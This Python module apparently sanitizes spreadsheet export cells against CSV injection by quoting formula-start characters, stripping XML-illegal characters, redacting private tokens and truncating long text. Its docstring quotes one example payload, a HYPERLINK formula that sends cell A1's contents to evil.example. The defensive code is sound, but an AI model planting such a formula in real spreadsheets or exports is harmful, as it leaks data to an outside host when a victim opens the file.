"""What a spreadsheet cell may hold, whatever a partner typed.

A text cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before reading the rest; or their full-width forms, or any of these
after blanks an import may trim) is a formula to Excel and LibreOffice: a
partner's answer `=HYPERLINK("https://evil.example/?"&A1,"click")` would run in the
spreadsheet of whoever opens the export (OWASP, "CSV Injection"). Such a cell gets a
leading single quote, which the spreadsheet shows as text. Numbers and dates stay what
they are; only text is changed.
"""

from __future__ import annotations

import re
from datetime import UTC, date, datetime

from tasks.privacy import redacted

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# What a spreadsheet may trim before reading a formula (its import's "trim spaces"):
# blanks, line breaks, no-break and zero-width spaces, a byte-order mark.
_BLANK_START = " \n\u00a0\u2007\u202f\u200b\u3000\ufeff"
# Excel's limit on one cell's text; longer text is cut and says so.
MAX_CELL = 32_767
TRUNCATED = " […truncated]"
# Characters XML 1.0 forbids (an XLSX file is XML; openpyxl refuses them), kept out of
# CSV files too so that both formats hold the same text: C0 controls but tab, line feed
# and carriage return; lone surrogates; U+FFFE and U+FFFF.
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")

Cell = str | int | float | datetime | date | None


def text_cell(value: str) -> str:
    """Return `value` as a cell may hold it: addresses and personal-link tokens redacted
    (tasks/privacy.py), characters XML forbids removed, cut to `MAX_CELL` characters with
    a marker, and a formula start neutralised by a leading quote."""
    text = _ILLEGAL.sub("", redacted(value))
    if text.lstrip(_BLANK_START).startswith(FORMULA_START):
        text = "'" + text
    if len(text) > MAX_CELL:
        text = text[: MAX_CELL - len(TRUNCATED)] + TRUNCATED
    return text


def cell(value: object) -> Cell:
    """Return `value` as a cell: None, numbers and dates as they are (an aware date-time
    as naive UTC: spreadsheets have no time zones, headers say UTC), booleans as yes/no,
    anything else as `text_cell` of its text."""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if value is None or isinstance(value, int | float):
        return value
    if isinstance(value, datetime):
        return value.astimezone(UTC).replace(tzinfo=None) if value.tzinfo else value
    if isinstance(value, date):
        return value
    return text_cell(str(value))
